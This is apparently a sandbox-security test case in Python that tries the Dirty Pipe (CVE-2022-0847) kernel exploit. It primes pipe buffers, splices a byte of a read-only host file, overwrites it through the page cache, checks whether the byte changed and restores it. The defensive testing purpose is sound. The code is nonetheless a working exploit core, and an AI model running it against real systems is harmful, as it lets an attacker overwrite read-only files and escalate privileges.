# about: Dirty Pipe (CVE-2022-0847) as a class: splices a page of a read-only file of the sandbox's root (a file of the host's, bound read-only) into a pipe whose buffers were primed to merge, then writes into the pipe, hoping the write lands in the file's page cache — the host's copy; reads the file back through a fresh descriptor to see, and puts the byte back if it changed
# expect: success|exception
# must-not: kernel-granted
import fcntl, os
target = os.path.join(os.path.dirname(os.__file__), 'LICENSE.txt')
out = []
fd = os.open(target, os.O_RDONLY)
offset = 5  # inside the first page, never at its start (the splice must leave a partial page to merge into)
original = os.pread(fd, 1, offset)
payload = bytes([original[0] ^ 0x20])
def attempt(byte):
    r, w = os.pipe()
    try:
        size = fcntl.fcntl(w, 1032)  # F_GETPIPE_SZ
        # fill and drain every buffer of the ring so each one carries the "can merge" flag a vulnerable kernel forgets
        os.set_blocking(w, False)
        filled = 0
        while filled < size:
            filled += os.write(w, b'p' * min(4096, size - filled))
        while filled > 0:
            filled -= len(os.read(r, min(4096, filled)))
        os.set_blocking(w, True)
        spliced = os.splice(fd, w, 1, offset_src=offset - 1)
        written = os.write(w, byte)
        return f'spliced {spliced}, wrote {written}'
    finally:
        os.close(r)
        os.close(w)
try:
    out.append(attempt(payload))
except OSError as error:
    out.append(f'refused: {error.__class__.__name__} {error.errno}')
check = os.open(target, os.O_RDONLY)
after = os.pread(check, 1, offset)
os.close(check)
if after != original:
    out.append('the page cache of a read-only host file changed: ' + '{{TOKEN}}'.upper())
    # a vulnerable kernel: put the host's byte back the same way
    try:
        attempt(original)
    except OSError:
        pass
out.append(f'{target}: byte {offset} {"changed" if after != original else "unchanged"}')
os.close(fd)
return out
